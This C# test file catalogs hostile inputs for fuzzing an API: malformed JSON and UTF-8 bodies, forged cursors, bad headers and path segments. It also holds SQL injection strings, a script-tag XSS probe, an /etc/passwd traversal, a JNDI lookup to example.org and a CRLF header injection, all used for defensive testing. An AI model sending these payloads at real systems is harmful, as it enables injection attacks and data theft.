using System.Buffers.Text;
using System.Text;

namespace Alliances.Api.Tests.Fuzzing;

/// <summary>The catalog of hostile inputs the attacks draw from.</summary>
internal static class Hostile
{
    /// <summary>Strings every field must survive. The first five hold text PostgreSQL or UTF-8 cannot store.</summary>
    public static readonly string[] Strings =
    [
        "a\u0000b",
        "\u0000",
        "lone \ud800 high",
        "lone \udfff low",
        "\udc00\ud800",
        new string('x', 100_000),
        new string('é', 20_000),
        "",
        " ",
        "\t\r\n",
        "\u202Egnp.exe",
        "\uFEFF",
        "\uFFFF\uFFFE",
        "😀 \U0001F3F3\uFE0F\u200D\U0001F308",
        "' OR '1'='1' --",
        "\"; DROP TABLE spaces; --",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "${jndi:ldap://example.org/a}",
        "%00%ff",
        "\\u0000",
        "a\r\nSet-Cookie: x=1",
    ];

    /// <summary>Whether a string holds text the API must refuse with a 400: U+0000 or an unpaired surrogate.</summary>
    public static bool MustBeRefused(string value)
    {
        for (var i = 0; i < value.Length; i++)
        {
            var c = value[i];
            if (c == '\0')
            {
                return true;
            }

            if (char.IsHighSurrogate(c) && (i + 1 == value.Length || !char.IsLowSurrogate(value[i + 1])))
            {
                return true;
            }

            if (char.IsLowSurrogate(c) && (i == 0 || !char.IsHighSurrogate(value[i - 1])))
            {
                return true;
            }
        }

        return false;
    }

    /// <summary>Values of the wrong JSON type, as JSON text.</summary>
    public static readonly string[] WrongTypes = ["12345", "-1", "true", "\"text\"", "[]", "{}", "null", "[1,2]", "{\"a\":1}", "1.5", "\"\""];

    /// <summary>Numbers as JSON text that no .NET number type holds exactly, or at all.</summary>
    public static readonly string[] Numbers =
    [
        "1e400", "-1e400", "1e-400", "123456789012345678901234567890", "2147483648", "-2147483649", "9223372036854775808",
        "1.0", "1.5", "-0", "0e0", "1E+2", "0.1e1", "-9999999999999999999999.99",
    ];

    /// <summary>Bodies that are not valid JSON, or not UTF-8, as bytes.</summary>
    public static readonly byte[][] MalformedBodies =
    [
        [],
        "{"u8.ToArray(),
        "{\"a\":}"u8.ToArray(),
        "["u8.ToArray(),
        "nul"u8.ToArray(),
        "{'a':1}"u8.ToArray(),
        "{\"a\":1,}"u8.ToArray(),
        "{} {}"u8.ToArray(),
        "{\"a\":1 /* c */}"u8.ToArray(),
        "null"u8.ToArray(),
        "[]"u8.ToArray(),
        "\"text\""u8.ToArray(),
        "1"u8.ToArray(),
        "\"\\ud800\""u8.ToArray(),
        [0xEF, 0xBB, 0xBF, (byte)'{', (byte)'}'],
        [(byte)'{', (byte)'"', (byte)'n', (byte)'a', (byte)'m', (byte)'e', (byte)'"', (byte)':', (byte)'"', 0xFF, 0xFE, (byte)'"', (byte)'}'],
        [(byte)'{', (byte)'"', (byte)'n', (byte)'a', (byte)'m', (byte)'e', (byte)'"', (byte)':', (byte)'"', 0xED, 0xA0, 0x80, (byte)'"', (byte)'}'],
        [(byte)'{', (byte)'"', (byte)'n', (byte)'a', (byte)'m', (byte)'e', (byte)'"', (byte)':', (byte)'"', 0xC0, 0x80, (byte)'"', (byte)'}'],
        [0xFF, 0xFE, (byte)'{', 0, (byte)'}', 0],
    ];

    /// <summary>Content types a JSON operation must refuse with a 415.</summary>
    public static readonly string[] RefusedContentTypes =
    [
        "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
        "application/json-patch+json", "application/octet-stream", "image/png",
    ];

    /// <summary>Odd content types that are not clearly wrong: only the general rules apply.</summary>
    public static readonly string[] OddContentTypes =
    [
        "", "application/json; charset=utf-16", "application/json; charset=latin1", "APPLICATION/JSON", "application/json;;", "application/*",
        "*/*", "json", "application/problem+json",
    ];

    /// <summary>Query values, already percent-encoded; the first four must be refused with a 400 in a string parameter.</summary>
    public static readonly string[] QueryValues =
    [
        "%00", "a%00b", "%ED%A0%80", "%FF%FE", "%C0%80",
        new string('x', 10_000), "1e400", "-1", "0", "101", "2147483648", "abc", "%E2%80%AE", "%25", "%", "[]", "null", "true", "",
        "%20", "2026-13-45", "%F0%9F%98%80",
    ];

    /// <summary>The index past which <see cref="QueryValues"/> need not be refused.</summary>
    public const int RefusedQueryValues = 5;

    /// <summary>Cursors the server never issued; the first three decode to text the API must refuse with a 400.</summary>
    public static readonly string[] Cursors =
    [
        Cursor("[\"\\u0000\",\"0198a0a0a0a07a0a8a0a0a0a0a0a0a0a\"]"),
        Cursor("[\"a\\u0000b\",\"0198a0a0a0a07a0a8a0a0a0a0a0a0a0a\"]"),
        Cursor("[\"\\ud800\",\"0198a0a0a0a07a0a8a0a0a0a0a0a0a0a\"]"),
        Cursor("[\"x\",\"not-hex\"]"),
        Cursor("[\"x\",\"0198a0a0a0a07a0a8a0a0a0a0a0a0a0a\"]"),
        Cursor("[\"2026-01-01T00:00:00Z\",\"0198a0a0a0a07a0a8a0a0a0a0a0a0a0a\"]"),
        Cursor("[\"'; DROP TABLE x; --\",\"0198a0a0a0a07a0a8a0a0a0a0a0a0a0a\"]"),
        Cursor("[1,2]"),
        Cursor("{\"a\":1}"),
        Cursor("[\"" + new string('9', 600) + "\",\"0198a0a0a0a07a0a8a0a0a0a0a0a0a0a\"]"),
        Cursor("[null,null]"),
        Cursor("[\"x\"]"),
        Cursor("nonsense"),
        Base64Url.EncodeToString([0xFF, 0x00, 0xFE, 0x01]),
        "%00",
        "!!!",
        "====",
        new string('A', 2000),
        "",
    ];

    /// <summary>The index past which <see cref="Cursors"/> need not be refused with a 400.</summary>
    public const int RefusedCursors = 3;

    /// <summary>Idempotency keys the API must refuse with a 400 (too long, not visible ASCII).</summary>
    public static readonly string[] BadIdempotencyKeys = [new string('k', 256), "ключ", "a b", "tab\there", "\u00ff"];

    /// <summary>Other header values (If-Match, If-None-Match, Accept, Authorization) that only the general rules cover.</summary>
    public static readonly string[] HeaderValues =
    [
        "garbage", "\"", "*", "W/\"x\"", "\"\"", new string('a', 8_000), "\"a\", \"b\"", "W/", "é", "null", "text/html;q=abc", "application/xml",
    ];

    public static readonly string[] Authorizations =
    [
        "Bearer", "Bearer ", "Bearer alk_", "Basic dXNlcjpwYXNz", "bearer alk_x", "Bearer alk_" + new string('A', 5_000), "Bearer é",
        "Bearer alk_\u00ff\u00fe", "Token abc", "Bearer a b c",
    ];

    /// <summary>
    /// Path segments that name nothing on an alliance host. No %00: Kestrel refuses a path holding it before the app
    /// runs, and the in-process test client throws on it instead of sending it.
    /// </summary>
    public static readonly string[] PathSegments =
    [
        "not-a-uuid", "00000000-0000-0000-0000-000000000000", "%01", "..%2F..", new string('a', 4_000), "%ED%A0%80", "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "0198a0a0-a0a0-7a0a-8a0a-0a0a0a0a0a0a", "%F0%9F%98%80", "-1", "1e400",
    ];

    /// <summary>Reads as JSON text <paramref name="json"/>, writes as a base64url cursor.</summary>
    private static string Cursor(string json) => Base64Url.EncodeToString(Encoding.UTF8.GetBytes(json));

    /// <summary>A JSON string literal of <paramref name="value"/>, escaping every surrogate so lone ones survive as \uXXXX.</summary>
    public static string JsonString(string value)
    {
        var builder = new StringBuilder(value.Length + 2).Append('"');
        foreach (var c in value)
        {
            if (c < 0x20 || c == '"' || c == '\\' || char.IsSurrogate(c) || c is '\u2028' or '\u2029')
            {
                builder.Append("\\u").Append(((int)c).ToString("x4", System.Globalization.CultureInfo.InvariantCulture));
            }
            else
            {
                builder.Append(c);
            }
        }

        return builder.Append('"').ToString();
    }

    /// <summary>JSON text of <paramref name="depth"/> nested arrays (or objects).</summary>
    public static string Nested(int depth, bool objects) =>
        objects
            ? string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth)
            : new string('[', depth) + new string(']', depth);
}
